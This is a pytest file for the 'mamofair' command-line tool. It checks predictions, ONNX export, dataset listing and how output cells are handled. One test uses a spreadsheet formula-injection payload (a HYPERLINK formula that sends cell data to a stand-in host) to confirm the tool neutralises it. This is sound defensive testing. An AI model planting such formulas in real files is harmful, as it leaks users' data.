"""`mamofair predict`, `export` and `datasets`."""

import gzip
import json
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import numpy as np
import onnxruntime
import openpyxl
import pandas as pd
import pytest
import torch
from typer.testing import CliRunner

import mamofair
from isolation import NOT_BUNDLED
from loan_table import ASKED, applicants
from mamofair import MostAccurateWithin
from mamofair.cli import app
from mamofair.datasets import CATALOG
from mamofair.runs import load_run, save, to_onnx
from mamofair.tables import encoder, read_batches, read_features
from run_fits import X, fitted, net, run_of
from terminal import on_terminal

RUNNER = CliRunner()


def mamofair_says(*arguments):
    done = RUNNER.invoke(app, [*map(str, arguments)])
    assert done.exit_code == 0, (done.output, done.exception)
    return done.stdout


@pytest.fixture(scope="module")
def new(tmp_path_factory) -> Path:
    """New people, in another order of columns, with columns that nobody knows and without those nobody needs."""
    people = applicants(90, seed=5).drop(columns=["approved", "gender"]).iloc[:, ::-1]
    people.loc[:3, "job"] = "astronaut"
    path = tmp_path_factory.mktemp("new") / "new.csv"
    people.assign(note='said "hi", left').to_csv(path, index=False)
    return path


def features(path: Path, model) -> pd.DataFrame:
    return read_features(path, model.encoder_.feature_names_in_)


def test_predictions_are_those_of_the_loaded_estimator_in_the_order_of_rows(trained, new, tmp_path):
    said = mamofair_says("predict", trained, new, "-o", tmp_path / "out.csv")
    model, found, given = mamofair.load(trained), pd.read_csv(tmp_path / "out.csv"), pd.read_csv(new)
    assert list(found) == [*given, "prediction", "score"]
    pd.testing.assert_frame_equal(found[list(given)], given)
    people = features(new, model)
    assert found["prediction"].tolist() == model.predict(people).tolist()
    favorable = model.classes_.tolist().index("yes")
    np.testing.assert_allclose(found["score"], model.predict_proba(people)[:, favorable], rtol=1e-14)
    assert ((found["score"] > 0.5) == (found["prediction"] == "yes")).all()
    favorable = (found["prediction"] == "yes").sum()
    assert said.startswith(f"Point {model.selected_} predicts the favorable outcome `yes` for {favorable} of 90 rows: ")


def test_other_points_predict_as_the_estimator_at_them(trained, new, tmp_path):
    model = mamofair.load(trained)
    people, last = features(new, model), len(model.front_) - 1
    bound = float(np.median(model.front_.values[:, 1]))
    for option, chosen in (
        (["--point", last], model.at(last)),
        (["--within", bound, "--margin", 0], model.with_selection(MostAccurateWithin(bound, margin=0))),
    ):
        told = json.loads(mamofair_says("predict", trained, new, *option, "-o", tmp_path / "out.csv", "--json"))
        assert told["point"] == chosen.selected_
        assert pd.read_csv(tmp_path / "out.csv")["prediction"].tolist() == chosen.predict(people).tolist()


def test_without_a_file_the_table_is_printed(trained, new, tmp_path):
    mamofair_says("predict", trained, new, "-o", tmp_path / "out.csv")
    assert mamofair_says("predict", trained, new) == (tmp_path / "out.csv").read_text()


def test_a_terminal_sees_how_far_it_is_and_a_table_on_it_is_not_disturbed(trained, new, tmp_path):
    assert "90 rows predicted" in on_terminal("predict", trained, new, "-o", tmp_path / "out.csv")
    assert on_terminal("predict", trained, new).startswith((tmp_path / "out.csv").read_text())  # notes come after it


def test_parquet_and_gzip_predict_alike(trained, new, tmp_path):
    people = pd.read_csv(new)
    people.to_parquet(tmp_path / "new.parquet")
    (tmp_path / "new.csv.gz").write_bytes(gzip.compress(new.read_bytes()))
    expected = mamofair_says("predict", trained, new)
    assert mamofair_says("predict", trained, tmp_path / "new.csv.gz") == expected
    printed = mamofair_says("predict", trained, tmp_path / "new.parquet")
    assert [line.split(",")[-2:] for line in printed.splitlines()] == [
        line.split(",")[-2:] for line in expected.splitlines()
    ]


def test_each_file_of_a_folder_is_predicted_under_its_own_name(trained, new, tmp_path, fails):
    people, folder, out = pd.read_csv(new), tmp_path / "new", tmp_path / "decided"
    (folder / "may").mkdir(parents=True)
    people[:30].to_parquet(folder / "april.parquet")
    people[30:].to_parquet(folder / "may" / "part.parquet")
    told = json.loads(mamofair_says("predict", trained, folder, "-o", out, "--json"))
    written = [pd.read_parquet(out / "april.parquet"), pd.read_parquet(out / "may" / "part.parquet")]
    people.to_parquet(tmp_path / "new.parquet")
    mamofair_says("predict", trained, tmp_path / "new.parquet", "-o", tmp_path / "all.parquet")
    pd.testing.assert_frame_equal(pd.concat(written), pd.read_parquet(tmp_path / "all.parquet"))
    assert told["rows"] == len(people)
    assert "must be a new or empty folder" in fails("predict", trained, folder, "-o", out)
    assert "`--out` must be a folder, as the table is one" in fails("predict", trained, folder, "-o", "x.parquet")
    assert "A gate needs one table" in fails("predict", trained, folder, "-o", tmp_path / "other", "--gate")
    people.drop(columns="age").to_parquet(folder / "june.parquet")
    assert "'age'" in fails("predict", trained, folder, "-o", tmp_path / "other")
    assert not (tmp_path / "other").exists()


def test_what_a_value_is_does_not_depend_on_the_batch_or_the_file(trained, new):
    encoder = mamofair.load(trained).encoder_
    whole = [encoder.transform(own) for _, own in read_batches(new, encoder)]
    pieces = [encoder.transform(own) for _, own in read_batches(new, encoder, rows=7)]
    assert [len(piece) for piece in pieces] == [7] * 12 + [6]
    np.testing.assert_array_equal(np.concatenate(pieces), whole[0])
    np.testing.assert_array_equal(whole[0], encoder.transform(read_features(new, encoder.feature_names_in_)))


def test_an_output_that_fails_leaves_the_old_file(trained, new, tmp_path, fails):
    out = tmp_path / "out.csv"
    out.write_text("old")
    people = pd.read_csv(new, dtype=str)
    people.loc[80, "age"] = "old enough"
    people.to_csv(tmp_path / "bad.csv", index=False)
    assert "'age' must hold numbers" in fails("predict", trained, tmp_path / "bad.csv", "-o", out)
    assert out.read_text() == "old"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["bad.csv", "out.csv"]


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--point", "1000"], "`--point` must be a row of front.csv, from 0 to"),
        (["--point", "1", "--within", "0.1"], "either `--point` or limits (`--within`, `--select-rate`)"),
        (["--within", "-1"], "must be a number in [0, 1], as gaps are: found -1.0."),
        (["--point", "-1"], ": found -1."),
        (["--json"], "add `-o decided.csv`"),
        (["-o", "out.ods"], "`--out` must be a .csv, .parquet or .xlsx file: found 'out.ods'"),
        (["-o", "out.xlsx"], "must be a .csv file, or of the type of the table: found 'out.xlsx' for 'new.csv'"),
    ],
)
def test_what_is_wrong_with_a_prediction_is_told_in_one_line(arguments, message, fails, trained, new):
    assert message in fails("predict", trained, new, *arguments)


def test_a_table_is_not_replaced_by_its_predictions(fails, trained, new, tmp_path):
    path = tmp_path / "new.csv"
    path.write_bytes(new.read_bytes())
    assert "`--out` must not overwrite the input table" in fails("predict", trained, path, "-o", path)
    assert path.read_bytes() == new.read_bytes()


@pytest.mark.parametrize(
    ("asked", "reason"),
    [(("--within", "1e-9"), "within the limits"), (("--select-rate", "0.0001,0.0002"), "0.0002")],
)
def test_a_point_that_stands_in_for_a_bound_that_was_not_reached_is_told(asked, reason, loans, new, tmp_path):
    run = tmp_path / "run"
    mamofair_says("train", loans, *ASKED, *asked, "--epochs", 1, "--out", run)
    told = " ".join(load_run(run).settings["stand_in"].split())
    assert reason in told
    said = RUNNER.invoke(app, ["predict", str(run), str(new), "-o", str(tmp_path / "out.csv")])
    assert said.exit_code == 0
    assert told in said.stderr
    for named in (["--point", "0"], ["--within", "1"]):
        said = RUNNER.invoke(app, ["predict", str(run), str(new), *named, "-o", str(tmp_path / "out.csv")])
        assert said.exit_code == 0
        assert told not in said.stderr


def test_a_choice_with_too_little_room_is_noted_where_it_is_made_and_not_again(trained, new, tmp_path):
    loaded = load_run(trained)
    gaps = loaded.estimator.front_.values[:, 1:].max(axis=1)
    rule = MostAccurateWithin(float(gaps.max()), margin=1e6)  # no point has that much room
    with pytest.warns(UserWarning, match="as measured was taken"):
        model = loaded.estimator.with_selection(rule)
    save(replace(loaded, estimator=model), tmp_path / "tight")
    told, out = "mamofair: None of the", ["-o", str(tmp_path / "out.csv")]
    for named in ([], ["--point", "0"], ["--within", "1", "--margin", "0"]):
        said = RUNNER.invoke(app, ["predict", str(tmp_path / "tight"), str(new), *named, *out])
        assert (said.exit_code, said.stderr.count(told)) == (0, 0)
    said = RUNNER.invoke(app, ["predict", str(tmp_path / "tight"), str(new), "--within", "1", "--margin", "1e6", *out])
    assert (said.exit_code, said.stderr.count(told)) == (0, 1)  # this command chooses
    said = RUNNER.invoke(app, ["report", str(tmp_path / "tight"), "--out", str(tmp_path / "page.html")])
    assert (said.exit_code, said.stderr.count(told)) == (0, 0)


def test_rows_that_the_run_has_learned_from_are_named(trained, loans, new, tmp_path):
    told, out = "is the table that the run was trained with", str(tmp_path / "out.csv")
    copy = tmp_path / "copy.csv"
    copy.write_bytes(Path(loans).read_bytes())
    for table in (loans, copy):
        assert (
            f"{Path(table).name} {told}" in RUNNER.invoke(app, ["predict", str(trained), str(table), "-o", out]).stderr
        )
    assert told not in RUNNER.invoke(app, ["predict", str(trained), str(new), "-o", out]).stderr


def test_what_is_wrong_with_a_table_is_told_in_one_line(fails, trained, new, tmp_path):
    people, path = pd.read_csv(new), tmp_path / "new.csv"
    for table, message in (
        (people.rename(columns={"income": "incom"}), "no column 'income' in new.csv. Did you mean 'incom'"),
        (people.rename(columns=str.upper), "no column 'income' in new.csv. Also missing: 'age', "),
        (people.assign(age="old"), "Column 'age' must hold numbers, or true and false: found 'old'"),
        (people.assign(score=1), "already has a column 'score'"),
        (people[:0], "found only column names"),
    ):
        table.to_csv(path, index=False)
        assert message in fails("predict", trained, path, "-o", tmp_path / "out.csv")
    assert "There is no file" in fails("predict", trained, tmp_path / "nowhere.csv")
    head, *lines = new.read_text().splitlines()
    path.write_text("\n".join([head, *(f"{line},more,and more" for line in lines)]))
    assert "cannot be read as CSV" in fails("predict", trained, path)
    assert "There is no run" in fails("predict", tmp_path / "nowhere", new)
    bare = save(run_of(fitted(net(epochs=1))), tmp_path / "bare")
    assert "The run must have been written by `mamofair train`" in fails("predict", bare, new)


def run_onnx(content: bytes, inputs: dict[str, np.ndarray]) -> dict[str, np.ndarray]:
    session = onnxruntime.InferenceSession(content, providers=["CPUExecutionProvider"])
    names = [output.name for output in session.get_outputs()]
    return dict(zip(names, session.run(names, inputs), strict=True))


def columns_of(table: pd.DataFrame, encoder) -> dict[str, np.ndarray]:
    """Return a table as the exported model takes it."""
    numbers = list(encoder.fill_values_)
    texts = {name: table[name].fillna("").astype(object) for name in table if name not in numbers}
    doubles = {name: table[name].astype(float) for name in numbers}
    return {name: column.to_numpy()[:, None] for name, column in (texts | doubles).items()}


def test_an_exported_model_decides_as_the_run_does(trained, new, tmp_path):
    path = tmp_path / "model.onnx"
    model = mamofair.load(trained)
    last = len(model.front_) - 1
    for option, chosen in (([], model), (["--point", last], model.at(last))):
        told = json.loads(mamofair_says("export", trained, "--onnx", path, *option, "--json"))
        assert told["inputs"] == model.encoder_.feature_names_in_.tolist()
        people = features(new, model)
        found = run_onnx(path.read_bytes(), columns_of(people, model.encoder_))
        assert found["prediction"].tolist() == chosen.predict(people).tolist()
        favorable = chosen.classes_.tolist().index("yes")
        np.testing.assert_allclose(found["score"], chosen.predict_proba(people)[:, favorable], rtol=1e-12)
    assert people["job"].isin(["astronaut"]).any()
    assert people.isna().any().sum() >= 2
    assert "Outputs: prediction, score, logit" in mamofair_says("export", trained, "--onnx", path)


def test_text_with_a_nul_is_pointed_out_and_decided_alike_in_arrays_of_objects():
    jobs = ["a", "b", "a\0", "a\0b", "\0"]
    frame = pd.DataFrame({"job": pd.Series(jobs * 40, dtype=object), "size": np.arange(200) / 200})
    fitted_encoder = encoder("median").fit(frame)
    sex = np.repeat(["f", "m"], 100)
    y = np.tile([1, 0, 0, 1, 1, 0, 1, 0, 0, 1], 20)
    model = net(epochs=1).fit(fitted_encoder.transform(frame), y, sensitive_features=sex).with_encoder(fitted_encoder)
    with pytest.warns(UserWarning, match="Text in 'job' has a NUL character"):
        content = to_onnx(model)
    new = pd.DataFrame({"job": pd.Series([*jobs, "b\0", "new\0"], dtype=object), "size": 0.5})
    found = run_onnx(content, columns_of(new, fitted_encoder))
    np.testing.assert_allclose(found["logit"], model.decision_function(new), atol=1e-9)


def test_values_that_are_rare_or_new_go_where_the_encoder_puts_them(tmp_path):
    rng = np.random.default_rng(0)
    many = [f"town {i:03}" for i in range(100)]
    frame = pd.DataFrame({"town": rng.choice(many, 2000), "size": rng.normal(size=2000)})
    fitted_encoder = encoder().fit(frame)
    assert any("(infrequent)" in name for name in fitted_encoder.get_feature_names_out())
    labels = frame["size"].to_numpy() > 0
    model = net(epochs=1).fit(
        fitted_encoder.transform(frame), labels.astype(int), sensitive_features=rng.choice(["a", "b"], 2000)
    )
    model = model.with_encoder(fitted_encoder)
    probe = pd.DataFrame({"town": [*many, "Atlantis", None], "size": 0.5})
    found = run_onnx(to_onnx(model), columns_of(probe, fitted_encoder))
    np.testing.assert_allclose(found["logit"], model.decision_function(probe), rtol=1e-12, atol=1e-12)
    assert found["prediction"].tolist() == model.predict(probe).tolist()


@pytest.mark.parametrize("has_gaps", [False, True])
def test_empty_text_is_text_of_its_own_unless_it_would_have_to_stand_for_missing_text_as_well(has_gaps):
    rng = np.random.default_rng(0)
    jobs = rng.choice(["", "clerk", None if has_gaps else "nurse"], 300)
    frame = pd.DataFrame({"job": pd.Series(jobs, dtype="str"), "size": rng.normal(size=300)})
    fitted_encoder = encoder().fit(frame)
    labels, groups = (frame["size"] > 0).astype(int), rng.choice(["a", "b"], 300)
    model = net(epochs=1).fit(fitted_encoder.transform(frame), labels, sensitive_features=groups)
    model = model.with_encoder(fitted_encoder)
    if has_gaps:
        with pytest.raises(ValueError, match="ONNX has no missing text, so empty text stands for it"):
            to_onnx(model)
    else:
        found = run_onnx(to_onnx(model), columns_of(frame, fitted_encoder))
        np.testing.assert_allclose(found["logit"], model.decision_function(frame), rtol=1e-12, atol=1e-12)


def test_without_an_encoder_the_matrix_is_the_input():
    model = fitted(net(epochs=1, favorable=0))
    found = run_onnx(to_onnx(model), {"X": X.to_numpy()})
    assert found["prediction"].tolist() == model.predict(X).tolist()
    np.testing.assert_allclose(found["logit"], -model.decision_function(X), rtol=1e-12, atol=1e-12)


def test_only_the_default_network_is_exported():
    model = fitted(net(epochs=1, network=lambda n: torch.nn.Linear(n, 1)))
    with pytest.raises(ValueError, match="Only the default network"):
        to_onnx(model)


def test_data_sets_are_listed_with_rows_terms_and_whether_they_are_at_hand(monkeypatch, tmp_path):
    monkeypatch.setenv("MAMOFAIR_DATA", str(tmp_path))
    monkeypatch.setattr("mamofair.datasets._files.cache_folder", lambda: tmp_path)
    found = json.loads(mamofair_says("datasets", "--json"))
    assert [name for name, entry in found.items() if entry["at_hand"]] == ["adult", "compas", "toy"]
    lines = mamofair_says("datasets").splitlines()
    assert [line.split()[0] for line in lines[1:]] == list(found)
    assert "48,842" in lines[1]
    assert "CC BY 4.0" in lines[1]


@pytest.mark.parametrize("name", CATALOG)
def test_the_catalog_says_of_data_sets_what_they_are(name, real_data):
    entry = CATALOG[name]
    if not entry.at_hand:
        pytest.skip(NOT_BUNDLED)
    data = entry.load()
    assert (data.name, len(data.y), data.license) == (name, entry.rows, entry.license)


def test_no_text_in_the_decisions_is_a_formula(trained, tmp_path):
    people = applicants(20, seed=6).drop(columns=["approved", "gender"])
    attack = '=HYPERLINK("http://x"&A1)'
    people = people.assign(**{"@note": [attack, "-5", "-", "+1-1", *["fine"] * 16], "debt": np.linspace(-9.5, 9.5, 20)})
    people.to_csv(tmp_path / "new.csv", index=False)
    people.to_parquet(tmp_path / "new.parquet")
    for name in ("new.csv", "new.parquet"):
        mamofair_says("predict", trained, tmp_path / name, "-o", tmp_path / "out.csv")
        found = pd.read_csv(tmp_path / "out.csv", dtype="str", na_filter=False)
        assert found["'@note"].tolist()[:5] == [f"'{attack}", "-5", "-", "'+1-1", "fine"]
        assert found["debt"].astype(float).tolist() == people["debt"].tolist()
        assert mamofair_says("predict", trained, tmp_path / name) == (tmp_path / "out.csv").read_text()
    assert "apostrophe" in mamofair_says("predict", "--help")


def cells(path: Path) -> list[dict[str, object]]:
    """The rows of a table as they are in its file: texts of CSV, values of Excel."""
    if path.suffix == ".csv":
        return pd.read_csv(path, dtype="str", na_filter=False).to_dict("records")
    sheet = openpyxl.load_workbook(path).active
    names, *rows = ([cell.value for cell in row] for row in sheet.iter_rows())
    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}  # no formula
    return [dict(zip(names, row, strict=True)) for row in rows]


#: Cells that a copy must not change: a code, an amount, a whole number beside a gap, a date with and without a time.
ODD = {
    "land": ["NA", "", "@no", "=1+1"],
    "debt": ["-1,55", "+3 %", "-1.234,50 €", "1e5"],
    "id": [4503599627370497, None, 3, 4],
    "day": [datetime(2024, 1, 2), datetime(2024, 1, 2, 3, 4), None, "unknown"],
}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_cells_are_copied_as_they_are(suffix, trained, tmp_path):
    people = applicants(4, seed=6).drop(columns=["approved", "gender"]).fillna({"income": 3.0})
    people = pd.concat([people, pd.DataFrame(ODD, dtype=object)], axis=1)
    path, out = tmp_path / f"new{suffix}", tmp_path / f"out{suffix}"
    if suffix == ".csv":
        people.to_csv(path, index=False)
    else:
        people.to_excel(path, index=False)
        sheet = (book := openpyxl.load_workbook(path)).active
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                cell.data_type = "s" if cell.data_type == "f" else cell.data_type
        book.save(path)
    mamofair_says("predict", trained, path, "-o", out)
    for before, after in zip(cells(path), cells(out), strict=True):
        decided = {name: after.pop(name) for name in ("prediction", "score")}
        assert decided["prediction"] in ("yes", "no")
        if suffix == ".csv":
            assert after.pop("land") == {"@no": "'@no", "=1+1": "'=1+1"}.get(before["land"], before["land"])
            before.pop("land")
        assert after == before
    found = read_features(out, ["land", "prediction"])
    assert found["land"].tolist()[2:] == ["@no", "=1+1"]


def test_whole_numbers_of_parquet_beside_a_missing_one_stay_whole(trained, tmp_path):
    people = applicants(3, seed=6).drop(columns=["approved", "gender"])
    people.assign(id=pd.array([9007199254740993, None, 7], dtype="Int64")).to_parquet(tmp_path / "new.parquet")
    mamofair_says("predict", trained, tmp_path / "new.parquet", "-o", tmp_path / "out.csv")
    assert [row["id"] for row in cells(tmp_path / "out.csv")] == ["9007199254740993", "", "7"]
